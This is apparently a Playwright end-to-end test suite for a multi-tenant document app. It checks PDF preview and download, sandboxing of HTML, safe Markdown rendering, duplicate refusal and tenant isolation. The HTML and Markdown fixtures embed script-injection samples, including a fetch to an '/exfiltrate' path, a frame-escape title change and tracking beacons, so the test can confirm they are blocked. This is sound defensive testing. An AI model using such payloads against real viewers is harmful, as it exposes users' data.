// Originals on the document page, as a demanding user checks them: a PDF previewed in the
// browser's own viewer and downloaded byte for byte under its name; an HTML original shown in a
// sandbox where its script does not run and nothing loads from outside; a Markdown original and
// its passages rendered (headings, lists, tables, code), not raw; a duplicate upload refused with
// a link to the document that has the content; and another tenant gets 404 for all of it.
import { readFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { expect, test, type Page } from "@playwright/test";
import { makePdf } from "../test/document-fixtures";
import { documentRow, dropFiles, waitForStatus } from "./pages/documents";
import { person, signUp } from "./pages/keel";

test.describe.configure({ mode: "serial" });

const owner = person("Maya");
const stranger = person("Noor");
let page: Page;
let strangerPage: Page;
const ids: Record<string, string> = {};
/** What the "outside" server saw: any load from a tenant's document that escaped its sandbox. */
const outsideHits: string[] = [];
let outside: Server;
let OUTSIDE = "";

const utf8 = (s: string) => new TextEncoder().encode(s);

const markdown = () => `# Turbine maintenance

Every turbine is inspected on a fixed schedule.

## Checks

- Blade inspection
- Gearbox oil sample

| Part | Interval |
|---|---|
| Blade | 6 months |
| Gearbox | 12 months |

\`\`\`ts
const intervalMonths = 6;
\`\`\`

<script>window.__markdownScriptRan = true</script>

![tracker](${OUTSIDE}/pixel.png)
`;

const html = () => `<!doctype html>
<html><head><title>Board pack</title><link rel="stylesheet" href="${OUTSIDE}/style.css"></head>
<body>
<h1>Quarterly board pack</h1>
<p id="status">Script did not run.</p>
<img src="${OUTSIDE}/beacon.gif" alt="beacon">
<script>document.getElementById("status").textContent = "Script ran"; parent.document.title = "owned"; fetch("${OUTSIDE}/exfiltrate");</script>
</body></html>`;

async function uploadAndOpen(name: string, mimeType: string, bytes: Uint8Array): Promise<string> {
  await page.goto("/documents");
  await dropFiles(page, [{ name, mimeType, bytes }]);
  await waitForStatus(page, name, "ready");
  await documentRow(page, name).getByRole("link", { name }).click();
  await expect(page).toHaveURL(/\/documents\/[0-9a-f-]{36}$/);
  return page.url().split("/").pop()!;
}

test.afterAll(() => outside.close());

test.beforeAll(async ({ browser }) => {
  page = await (await browser.newContext({ acceptDownloads: true })).newPage();
  outside = createServer((request, response) => {
    outsideHits.push(request.url ?? "");
    response.writeHead(204).end();
  });
  await new Promise<void>((resolve) => outside.listen(0, "127.0.0.1", resolve));
  OUTSIDE = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  // It counts what reaches it (so an empty list below means something).
  await fetch(`${OUTSIDE}/listening`);
  expect(outsideHits.splice(0)).toEqual(["/listening"]);
  strangerPage = await (await browser.newContext()).newPage();
  await signUp(page, owner, `Originals ${Date.now().toString(36)}`);
  await signUp(strangerPage, stranger, `Elsewhere ${Date.now().toString(36)}`);
});

test("previews a PDF in the browser's own viewer and downloads the original byte for byte", async () => {
  const bytes = await makePdf(
    Array.from({ length: 3 }, (_, p) => ({
      heading: `Chapter ${p + 1}`,
      paragraphs: Array.from({ length: 5 }, (_, i) => `Paragraph ${p * 5 + i} of the wind farm review: output, availability and faults.`),
    })),
  );
  const preview = page.waitForResponse((r) => r.url().endsWith("/preview"));
  ids.pdf = await uploadAndOpen("wind-farm review.pdf", "application/pdf", bytes);
  const response = await preview;
  expect(response.status()).toBe(200);
  expect(response.headers()["content-type"]).toBe("application/pdf");
  expect(response.headers()["content-disposition"]).toBe('inline; filename="wind-farm review.pdf"');
  expect(response.headers()["x-content-type-options"]).toBe("nosniff");
  await expect(page.getByTestId("original-preview")).toHaveAttribute("data-kind", "pdf");
  // Chromium's PDF viewer took the frame: it shows the file's name and its three pages.
  await expect.poll(() => page.frames().some((f) => f.url().startsWith("chrome-extension://")), { timeout: 15_000 }).toBe(true);
  const viewer = page.frames().find((f) => f.url().startsWith("chrome-extension://"))!;
  await expect(viewer.locator("#title")).toHaveText("wind-farm review.pdf");
  await expect(viewer.locator("viewer-page-selector #pagelength")).toHaveText("3");

  // For the docs: `E2E_SCREENSHOT_DIR=docs/screenshots` keeps a picture of the page with its preview.
  if (process.env.E2E_SCREENSHOT_DIR) {
    for (const dismiss of await page.getByTestId("toast").getByRole("button", { name: "Dismiss" }).all()) await dismiss.click();
    const viewport = page.viewportSize();
    await page.setViewportSize({ width: 1280, height: 1200 });
    await page.waitForTimeout(1_500); // let the viewer lay out and paint at the new size
    await page.screenshot({ path: path.join(process.env.E2E_SCREENSHOT_DIR, "document-preview.png") });
    if (viewport) await page.setViewportSize(viewport);
  }

  const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("download-original").click()]);
  expect(download.suggestedFilename()).toBe("wind-farm review.pdf");
  expect(new Uint8Array(await readFile(await download.path()))).toEqual(bytes);
});

test("shows an HTML original in a sandbox: its script does not run and nothing loads from outside", async () => {
  const preview = page.waitForResponse((r) => r.url().endsWith("/preview"));
  ids.html = await uploadAndOpen("board-pack.html", "text/html", utf8(html()));
  const headers = (await preview).headers();
  expect(headers["content-security-policy"]).toMatch(/^sandbox; default-src 'none';/);
  expect(headers["x-content-type-options"]).toBe("nosniff");
  const frameElement = page.getByTestId("original-preview");
  await expect(frameElement).toHaveAttribute("sandbox", "");
  const frame = page.frameLocator('[data-testid="original-preview"]');
  await expect(frame.getByRole("heading", { name: "Quarterly board pack" })).toBeVisible();
  await expect(frame.locator("#status")).toHaveText("Script did not run.");
  await page.waitForTimeout(1_000);
  expect(await page.title()).not.toBe("owned");
  // (Chromium reports the blocked loads as requests that failed in the browser; none left it.)
  expect(outsideHits).toEqual([]);
});

test("renders a Markdown original and its passages: headings, lists, tables and code, no raw Markdown, no HTML", async () => {
  ids.markdown = await uploadAndOpen("maintenance.md", "text/markdown", utf8(markdown()));
  const original = page.getByTestId("original-markdown");
  await expect(original.getByRole("heading", { level: 1, name: "Turbine maintenance" })).toBeVisible();
  await expect(original.getByRole("listitem")).toHaveText(["Blade inspection", "Gearbox oil sample"]);
  await expect(original.getByRole("table").getByRole("cell", { name: "12 months" })).toBeVisible();
  await expect(original.locator("pre code")).toContainText("const intervalMonths = 6;");
  await expect(original).not.toContainText("|---|");
  await expect(original).toContainText("[image: tracker]");

  const passage = page.getByTestId("passage-markdown").first();
  await expect(passage.getByRole("heading", { name: "Checks" })).toBeVisible();
  await expect(passage.getByRole("listitem").first()).toHaveText("Blade inspection");
  await expect(passage.getByRole("table").getByRole("cell", { name: "Gearbox", exact: true })).toBeVisible();
  await expect(passage.locator("code").first()).toContainText("intervalMonths");
  await expect(passage).not.toContainText("| Part |");
  await expect(passage).not.toContainText("## Checks");

  // The raw HTML in the Markdown was dropped, not run; its image was never fetched.
  await expect(page.locator('[data-testid="original-markdown"] script, [data-testid="passage-markdown"] script')).toHaveCount(0);
  expect(await page.evaluate(() => (window as unknown as { __markdownScriptRan?: boolean }).__markdownScriptRan)).toBeUndefined();
  expect(outsideHits).toEqual([]);
});

test("refuses the same content again in the same collection, with a link to the document that has it", async () => {
  await page.goto("/documents");
  await dropFiles(page, [{ name: "maintenance copy.md", mimeType: "text/markdown", bytes: utf8(markdown()) }]);
  const item = page.locator('[data-testid="upload-item"][data-status="duplicate"]');
  await expect(item).toContainText("maintenance copy.md");
  await expect(item).toContainText("Already here");
  await expect(item.getByTestId("upload-duplicate")).toContainText(/already in the collection “General”, as “maintenance\.md”/);
  await expect(documentRow(page, "maintenance copy.md")).toHaveCount(0);
  await item.getByRole("link", { name: "Open the existing document" }).click();
  await expect(page).toHaveURL(new RegExp(`/documents/${ids.markdown}$`));
  await expect(page.getByRole("heading", { level: 1, name: "maintenance.md" })).toBeVisible();
});

test("another tenant gets 404 for every original, preview and page", async () => {
  for (const id of Object.values(ids)) {
    expect((await strangerPage.request.get(`/api/documents/${id}/original`)).status()).toBe(404);
    expect((await strangerPage.request.get(`/api/documents/${id}/preview`)).status()).toBe(404);
    expect((await strangerPage.goto(`/documents/${id}`))?.status()).toBe(404);
  }
  // The owner can, through the same routes.
  expect((await page.request.get(`/api/documents/${ids.pdf}/original`)).status()).toBe(200);
  expect((await page.request.get(`/api/documents/not-a-uuid/original`)).status()).toBe(404);
});
